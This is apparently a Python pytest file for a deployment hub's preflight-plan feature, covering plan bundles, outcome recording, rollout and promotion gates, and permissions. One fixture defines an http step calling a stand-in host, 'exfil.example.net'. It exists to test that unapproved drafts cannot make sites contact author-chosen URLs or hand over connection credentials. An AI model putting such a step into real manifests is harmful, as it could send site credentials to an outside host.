"""Preflight plans at the hub (hub.services.plans): making a plan bundle uses no deployment
sequence, outcomes are kept per plan and agent, and the rollout gate "a plan passed on every
agent of the batch within N hours" refuses, explains, then allows."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bundle.inspect import inspect
from bundle.manifest import KIND_PLAN
from hub.db import AuditEvent, Deployment, PlanBundle, PlanOutcome, Release, SequenceCounter
from hub.errors import NotFoundError, PermissionDeniedError, ValidationError
from hub.services import rollouts as ro
from hub.services.agents import get_agent, revoke_agent
from hub.services.plans import create_plan, outcomes_json, preflight_waits, record_outcome
from hub.services.rollouts import Strategy
from tests.hub.conftest import World
from tests.hub.services.test_deployments import approved
from tests.hub.services.test_rollouts import _fleet


@pytest.fixture
def rel(world: World, release_dir: Callable[..., Path]) -> Release:
    return approved(world, release_dir, "appr1")


def _count(world: World, model: type) -> int:
    return world.session.scalar(select(func.count()).select_from(model)) or 0


def _counters(world: World) -> list[tuple[str, int]]:
    return [(c.target, c.next_sequence) for c in world.session.scalars(
        select(SequenceCounter).order_by(SequenceCounter.target))]


def _answer(world: World, plan: int, agent: str, status: str, summary: str = "") -> None:
    row = world.session.get(PlanBundle, plan)
    assert row is not None
    flag = record_outcome(world.ctx("op"), get_agent(world.session, agent), row.bundle_id,
                          status, {"summary": summary, "plan": {"checks": [
                              {"check": "connection", "status": "failed", "summary": summary,
                               "step": "s", "target": "db"}] if status == "plan-failed"
                              else []}}, 1)
    assert flag is None


def test_a_plan_bundle_uses_its_own_sequence(world: World, rel: Release,
                                             tmp_path: Path) -> None:
    _fleet(world, 2)
    counters = _counters(world)
    first = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    second = create_plan(world.ctx("op"), rel, agent_id="a01", out_dir=tmp_path / "m")
    assert second.sequence > first.sequence >= 1
    assert first.agents == ("a00", "a01") and second.agents == ("a01",)
    assert first.note is None  # no delegation in this root: nothing to carry, nothing skipped
    seen = inspect(first.files[0])
    assert seen.manifest is not None and seen.manifest.kind == KIND_PLAN
    assert seen.manifest.sequence == first.sequence
    assert seen.manifest.target.environment == "test" and seen.manifest.target.agents == ()
    assert seen.manifest.secrets == () and seen.manifest.chain is None
    # No deployment, no deployment sequence.
    assert _count(world, Deployment) == 0 and _counters(world) == counters
    events = world.session.scalars(select(AuditEvent).where(AuditEvent.action == "plan.create"))
    assert [json.loads(e.details)["plan"] for e in events] == [first.sequence, second.sequence]


def test_live_plans_go_to_each_agents_spool(world: World, rel: Release,
                                            tmp_path: Path) -> None:
    from dataclasses import replace

    _fleet(world, 2)
    ctx = world.ctx("op")
    ctx = replace(ctx, keys=replace(ctx.keys, data_dir=tmp_path / "data"))  # type: ignore[arg-type]
    report = create_plan(ctx, rel, environment="test")
    names = {p.parent.name: p.read_bytes() for p in report.files}
    assert set(names) == {"a00", "a01"} and len(set(names.values())) == 1
    assert all(p.parent.parent == tmp_path / "data" / "live-outbox" for p in report.files)


def test_a_plan_is_no_live_work_until_its_files_are_in_the_spool(
        world: World, rel: Release, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its row is committed before its file is written (its sequence must be): the live
    server, asking then, must not see it (it would mark it offered with nothing in the
    spool, and never offer it again); once written, it does."""
    from dataclasses import replace

    from hub.services import plans
    from hub.services.presence import live_work_of

    _fleet(world, 2)
    ctx = world.ctx("op")
    ctx = replace(ctx, keys=replace(ctx.keys, data_dir=tmp_path / "data"))  # type: ignore[arg-type]
    seen: list[list[object]] = []
    real = plans.write_bundle

    def write_bundle(*args: object, **kwargs: object) -> object:
        seen.append([w.plan for w in live_work_of(world.session, {"a00"}, now=world.clock())])
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(plans, "write_bundle", write_bundle)
    report = create_plan(ctx, rel, agent_id="a00")
    assert seen == [[]]
    assert [w.plan for w in live_work_of(world.session, {"a00"}, now=world.clock())] == [
        report.sequence]


@pytest.mark.parametrize(("kwargs", "error", "words"), [
    ({}, ValidationError, "give --environment or --agent"),
    ({"environment": "test", "agent_id": "a00"}, ValidationError, "one of them"),
    ({"environment": "prod"}, ValidationError, "no enrolled agent"),
    ({"environment": "nowhere"}, NotFoundError, "nowhere"),
    ({"agent_id": "a01"}, ValidationError, "a01 is revoked"),
])
def test_plan_refusals_record_nothing(world: World, rel: Release, tmp_path: Path,
                                      kwargs: dict[str, str], error: type[Exception],
                                      words: str) -> None:
    _fleet(world, 2)
    revoke_agent(world.ctx("op"), "a01")
    world.session.commit()
    with pytest.raises(error, match=words):
        create_plan(world.ctx("op"), rel, out_dir=tmp_path / "m", **kwargs)  # type: ignore[arg-type]
    world.session.rollback()
    assert _count(world, PlanBundle) == 0
    assert not (tmp_path / "m").exists() or not list((tmp_path / "m").iterdir())


def test_a_developer_may_not_plan(world: World, rel: Release, tmp_path: Path) -> None:
    _fleet(world, 1)
    with pytest.raises(PermissionDeniedError):
        create_plan(world.ctx("dev"), rel, environment="test", out_dir=tmp_path / "m")
    world.session.rollback()
    assert _count(world, PlanBundle) == 0 and not (tmp_path / "m").exists()


def test_outcomes_and_the_gate(world: World, rel: Release, tmp_path: Path) -> None:
    _fleet(world, 2)
    agents = [get_agent(world.session, a) for a in ("a00", "a01")]
    day = __import__("datetime").timedelta(hours=24)
    waits = preflight_waits(world.session, rel, agents, day, world.clock())
    assert len(waits) == 2 and "no preflight plan of hello" in waits[0]
    plan = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    _answer(world, plan.sequence, "a00", "plan-passed", "plan passed: 5 check(s) passed")
    _answer(world, plan.sequence, "a01", "plan-failed", "connection 'billing-db' is not "
            "defined")
    waits = preflight_waits(world.session, rel, agents, day, world.clock())
    assert waits == [f"a01: preflight plan {plan.sequence} failed at 2026-11-23 09:00 UTC: "
                     "connection 'billing-db' is not defined"]
    again = create_plan(world.ctx("op"), rel, agent_id="a01", out_dir=tmp_path / "m")
    _answer(world, again.sequence, "a01", "plan-passed", "ok")
    assert preflight_waits(world.session, rel, agents, day, world.clock()) == []
    world.clock.advance(25 * 3600)
    stale = preflight_waits(world.session, rel, agents, day, world.clock())
    assert len(stale) == 2 and "more than 24 h ago" in stale[0]
    shown = outcomes_json(world.session, rel)
    assert [p["plan"] for p in shown] == [again.sequence, plan.sequence]
    assert {o["agent"]: o["status"] for o in shown[1]["outcomes"]} == {
        "a00": "passed", "a01": "failed"}
    assert _count(world, PlanOutcome) == 3


def test_an_answer_to_an_unknown_plan_is_flagged(world: World, rel: Release) -> None:
    _fleet(world, 1)
    flag = record_outcome(world.ctx("op"), get_agent(world.session, "a00"), "plan-x-1",
                          "plan-passed", {"summary": "ok"}, 1)
    assert flag == "plan: bundle plan-x-1 is not a plan this hub made"
    assert _count(world, PlanOutcome) == 0


def test_rollout_waits_for_preflight_then_queues(world: World, rel: Release,
                                                 tmp_path: Path) -> None:
    _fleet(world, 2)
    rollout = ro.start_rollout(world.ctx("op"), rel, environment="test",
                               strategy=Strategy(canary=1, preflight_within_h=24))
    assert _count(world, Deployment) == 0  # the canary waits for its preflight
    waits = ro.batch_waits(world.session, rollout, 1, world.clock())
    assert waits and waits[0].startswith("preflight: a00: no preflight plan of hello")
    assert "each batch after a preflight passed on it within 24 h" in \
        Strategy.from_json(rollout.strategy).describe()
    plan = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    _answer(world, plan.sequence, "a00", "plan-failed", "dry run rejected")
    assert _count(world, Deployment) == 0
    _answer(world, plan.sequence, "a00", "plan-passed", "ok")  # advances the rollout
    deps = list(world.session.scalars(select(Deployment)))
    assert [d.agent.agent_id for d in deps] == ["a00"]
    assert ro.batch_waits(world.session, rollout, 1, world.clock())[:1] != [
        "preflight: a00: no preflight plan of hello"]


def test_preflight_gate_bounds(world: World) -> None:
    for bad in (0, 721):
        with pytest.raises(ValidationError, match="preflight within"):
            Strategy(preflight_within_h=bad).check()


def test_channel_promotion_waits_for_preflight_then_promotes(world: World, rel: Release,
                                                             tmp_path: Path) -> None:
    """A channel's promotion rule can ask for a preflight passed on every agent subscribed to
    it within N hours; promotion is refused naming each agent (nothing changes), then
    allowed once the plan's answer is in."""
    from hub.errors import PromotionRefusedError
    from hub.services.channels import ChannelRule, describe_rule, set_rule, subscribe
    from hub.services.environments import create_environment
    from hub.services.promotion import promote

    admin = world.ctx("admin")
    create_environment(admin, "canary")
    _fleet(world, 1, env="canary", prefix="c")
    subscribe(admin, "canary", "hello", "CANARY")
    channel = set_rule(admin, "hello", "CANARY", ChannelRule(preflight_within_h=24))
    assert "a preflight plan passed on every agent subscribed to CANARY within 24 h" in \
        describe_rule(channel, object())  # type: ignore[arg-type]
    world.session.commit()
    before = (_count(world, Deployment), _count(world, AuditEvent))
    with pytest.raises(PromotionRefusedError) as refused:
        promote(world.ctx("op"), "hello", rel.version, "CANARY")
    world.session.rollback()
    assert "preflight: c00: no preflight plan of hello" in str(refused.value)
    assert (_count(world, Deployment), _count(world, AuditEvent)) == before

    plan = create_plan(world.ctx("op"), rel, environment="canary", out_dir=tmp_path / "m")
    _answer(world, plan.sequence, "c00", "plan-passed", "ok")
    world.session.commit()
    done = promote(world.ctx("op"), "hello", rel.version, "CANARY")
    assert done.entry.channel.name == "CANARY"
    with pytest.raises(ValidationError, match="preflight hours must be between 0 and 720"):
        set_rule(admin, "hello", "CANARY", ChannelRule(preflight_within_h=721))


def test_the_newest_plan_counts_not_the_last_answer_to_arrive(world: World, rel: Release,
                                                              tmp_path: Path) -> None:
    from datetime import timedelta

    _fleet(world, 1)
    agents = [get_agent(world.session, "a00")]
    old = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    new = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    _answer(world, new.sequence, "a00", "plan-failed", "dry run rejected")
    _answer(world, old.sequence, "a00", "plan-passed", "ok")  # by media, late
    waits = preflight_waits(world.session, rel, agents, timedelta(hours=24), world.clock())
    assert waits == [f"a00: preflight plan {new.sequence} failed at 2026-11-23 09:00 UTC: "
                     "dry run rejected"]


def _checked_release(world: World, tmp_path: Path, *approvers: str) -> Release:
    from hub.services.approvals import approve_release
    from hub.services.releases import create_product, create_release, submit_release

    src = tmp_path / "checked"
    src.mkdir()
    (src / "up.sh").write_text("echo up\n")
    (src / "look.sh").write_text("touch /tmp/anything-at-all\n")  # the author's code
    (src / "release.toml").write_text(
        'format = 1\n\n[release]\nproduct = "hello"\nversion = "3.0.0"\n\n[[steps]]\n'
        'name = "up"\nkind = "shell"\nscript = "up.sh"\ncheck = "look.sh"\n')
    create_product(world.ctx("dev"), "hello")
    rel = create_release(world.ctx("dev"), src)
    if approvers:
        submit_release(world.ctx("dev"), rel)
        for who in approvers:
            approve_release(world.ctx(who), rel)
    return rel


def _plan_steps(path: Path) -> list[dict[str, object]]:
    seen = inspect(path)
    assert seen.manifest is not None
    return [dict(s) for s in seen.manifest.steps]


def test_a_plan_of_a_release_not_approved_for_the_environment_carries_no_check_script(
        world: World, tmp_path: Path) -> None:
    """A check script is the author's code, and a plan needs no approval: a plan of a draft
    (or of a release short of the environment's approvals) ran it at every site whose root
    delegates no approvals — the author and an operator (or one admin) ran unapproved code
    there. Such a plan leaves the check scripts out and says so; once the release meets the
    environment's rule, the next plan carries them."""
    _fleet(world, 1)
    draft = _checked_release(world, tmp_path)
    assert draft.state == "draft"
    report = create_plan(world.ctx("op"), draft, environment="test", out_dir=tmp_path / "m")
    assert [s.get("check") for s in _plan_steps(report.files[0])] == [None]
    assert report.note is not None and "check scripts are left out" in report.note
    assert "hello 3.0.0 is draft" in report.note

    from hub.services.approvals import approve_release
    from hub.services.releases import submit_release

    submit_release(world.ctx("dev"), draft)
    approve_release(world.ctx("appr1"), draft)
    report = create_plan(world.ctx("op"), draft, environment="test", out_dir=tmp_path / "n")
    assert [s.get("check") for s in _plan_steps(report.files[0])] == ["look.sh"]
    assert report.note is None


def test_a_plan_that_ran_no_check_script_does_not_open_the_gate(world: World,
                                                                 tmp_path: Path) -> None:
    """"Preflight passed" includes the release's own checks: a plan made before the release
    was approved (its check scripts left out) or skipped for want of approvals passes on
    everything else, but the gate stays closed until a plan that ran them passed."""
    from datetime import timedelta

    from hub.services.approvals import approve_release
    from hub.services.releases import submit_release

    _fleet(world, 1)
    rel = _checked_release(world, tmp_path)
    agents = [get_agent(world.session, "a00")]
    early = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    row = world.session.get(PlanBundle, early.sequence)
    assert row is not None
    record_outcome(world.ctx("op"), agents[0], row.bundle_id, "plan-passed", {
        "summary": "plan passed: 2 check(s) passed", "plan": {"checks": [
            {"check": "free-space", "status": "passed", "summary": "ok"}]}}, 1)
    day = timedelta(hours=24)
    (wait,) = preflight_waits(world.session, rel, agents, day, world.clock())
    assert "passed without running the release's 1 check script(s)" in wait

    submit_release(world.ctx("dev"), rel)
    approve_release(world.ctx("appr1"), rel)
    late = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "n")
    row = world.session.get(PlanBundle, late.sequence)
    assert row is not None
    record_outcome(world.ctx("op"), agents[0], row.bundle_id, "plan-passed", {
        "summary": "plan passed: 3 check(s) passed", "plan": {"checks": [
            {"check": "free-space", "status": "passed", "summary": "ok"},
            {"check": "check-script", "status": "passed", "summary": "check look.sh: ok",
             "step": "up", "target": "look.sh"}]}}, 2)
    assert preflight_waits(world.session, rel, agents, day, world.clock()) == []


def test_a_refused_plan_is_kept_but_never_replaces_an_answer(world: World, rel: Release,
                                                             tmp_path: Path) -> None:
    """A signed `rejected` result naming a plan (the agent refused it after its signature
    verified: expired, a replay) is the plan's outcome `refused`, its reason the summary,
    and keeps the gate closed; a refusal of a plan the agent already answered is flagged
    and the answer kept."""
    from datetime import timedelta

    from hub.services.plans import is_plan

    _fleet(world, 1)
    agent = get_agent(world.session, "a00")
    old = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    row = world.session.get(PlanBundle, old.sequence)
    assert row is not None and is_plan(world.session, row.bundle_id)
    assert not is_plan(world.session, "dep-1")
    why = f"plan {row.bundle_id}.tgb: bundle …: it expired at 2026-11-23 10:00:00Z"
    assert record_outcome(world.ctx("op"), agent, row.bundle_id, "rejected",
                          {"summary": why}, 1) is None
    [shown] = outcomes_json(world.session, rel)
    assert [(o["status"], o["summary"], o["checks"]) for o in shown["outcomes"]] == [
        ("refused", why, [])]
    waits = preflight_waits(world.session, rel, [agent], timedelta(hours=24), world.clock())
    assert waits == [f"a00: preflight plan {old.sequence} refused at 2026-11-23 09:00 UTC: "
                     f"{why}"]

    new = create_plan(world.ctx("op"), rel, environment="test", out_dir=tmp_path / "m")
    _answer(world, new.sequence, "a00", "plan-passed", "ok")
    newer = world.session.get(PlanBundle, new.sequence)
    assert newer is not None
    before = _count(world, AuditEvent)
    flag = record_outcome(world.ctx("op"), agent, newer.bundle_id, "rejected",
                          {"summary": "sequence 2 is not newer than 2"}, 3)
    assert flag == (f"plan: agent a00 refused plan {new.sequence} again after it answered "
                    "passed (sequence 2 is not newer than 2); the answer is kept")
    assert _count(world, AuditEvent) == before
    assert preflight_waits(world.session, rel, [agent], timedelta(hours=24),
                           world.clock()) == []


def _http_release(world: World, tmp_path: Path) -> Release:
    from hub.services.releases import create_product, create_release

    src = tmp_path / "called"
    src.mkdir()
    (src / "up.sh").write_text("echo up\n")
    (src / "release.toml").write_text(
        'format = 1\n\n[release]\nproduct = "hook"\nversion = "1.0.0"\n\n'
        '[[steps]]\nname = "up"\nkind = "shell"\nscript = "up.sh"\n\n'
        '[[steps]]\nname = "Tell"\nkind = "http"\nafter = ["up"]\n'
        'url = "https://exfil.example.net/probe?x=1"\nconnection = "intranet"\n\n'
        '[[steps]]\nname = "done"\nkind = "shell"\nscript = "up.sh"\nafter = ["tell", "up"]\n')
    create_product(world.ctx("dev"), "hook")
    return create_release(world.ctx("dev"), src)


def test_a_plan_of_a_release_not_approved_makes_no_site_contact_its_urls(
        world: World, tmp_path: Path) -> None:
    """An http step's plan check sends a HEAD of the step's URL, with the site connection's
    CA and basic auth: a plan of a draft (needing no approval) made every site whose root
    delegates no approvals contact URLs its author chose — probing inside the air gap and
    handing the connection's credentials to any host. Such a plan leaves the http steps out
    (the graph stays valid) and says so; the gate stays closed until a plan that asked
    their servers passed; once approved, the next plan carries them."""
    from datetime import timedelta

    from hub.services.approvals import approve_release
    from hub.services.releases import submit_release

    _fleet(world, 1)
    draft = _http_release(world, tmp_path)
    report = create_plan(world.ctx("op"), draft, environment="test", out_dir=tmp_path / "m")
    steps = _plan_steps(report.files[0])
    assert [(s["name"], s.get("after")) for s in steps] == [("up", None), ("done", ["up"])]
    assert "exfil.example.net" not in json.dumps(steps)
    assert report.note is not None and (
        "the release's http step(s) Tell are left out: hook 1.0.0 is draft" in report.note)
    agents = [get_agent(world.session, "a00")]
    row = world.session.get(PlanBundle, report.sequence)
    assert row is not None
    record_outcome(world.ctx("op"), agents[0], row.bundle_id, "plan-passed", {
        "summary": "plan passed", "plan": {"checks": [
            {"check": "free-space", "status": "passed", "summary": "ok"}]}}, 1)
    (wait,) = preflight_waits(world.session, draft, agents, timedelta(hours=24),
                              world.clock())
    assert "passed without asking the servers of the release's 1 http step(s)" in wait

    submit_release(world.ctx("dev"), draft)
    approve_release(world.ctx("appr1"), draft)
    report = create_plan(world.ctx("op"), draft, environment="test", out_dir=tmp_path / "n")
    steps = _plan_steps(report.files[0])
    assert [s["name"] for s in steps] == ["up", "Tell", "done"]
    assert steps[1]["url"] == "https://exfil.example.net/probe?x=1" and report.note is None
    row = world.session.get(PlanBundle, report.sequence)
    assert row is not None
    record_outcome(world.ctx("op"), agents[0], row.bundle_id, "plan-passed", {
        "summary": "plan passed", "plan": {"checks": [
            {"check": "http", "status": "passed", "summary": "HEAD … answered 204",
             "step": "Tell", "target": "https://exfil.example.net/probe?x=1"}]}}, 2)
    assert preflight_waits(world.session, draft, agents, timedelta(hours=24),
                           world.clock()) == []


def test_left_out_http_steps_keep_the_graph_valid() -> None:
    from bundle.dag import check_graph
    from hub.services.plans import without_http_steps

    steps = [{"name": "a", "kind": "shell"},
             {"name": "H1", "kind": "http", "after": ["a"]},
             {"name": "h2", "kind": "http", "after": ["h1", "b"]},
             {"name": "b", "kind": "shell", "after": []},
             {"name": "c", "kind": "shell", "after": ["H2", "A"]},
             {"name": "d", "kind": "shell"}]
    kept, left_out = without_http_steps(steps)
    assert left_out == ["H1", "h2"]
    assert [(s["name"], s.get("after")) for s in kept] == [
        ("a", None), ("b", []), ("c", ["a", "b"]), ("d", None)]
    check_graph(kept)
    assert without_http_steps([{"name": "h", "kind": "http"}]) == ((), ["h"])
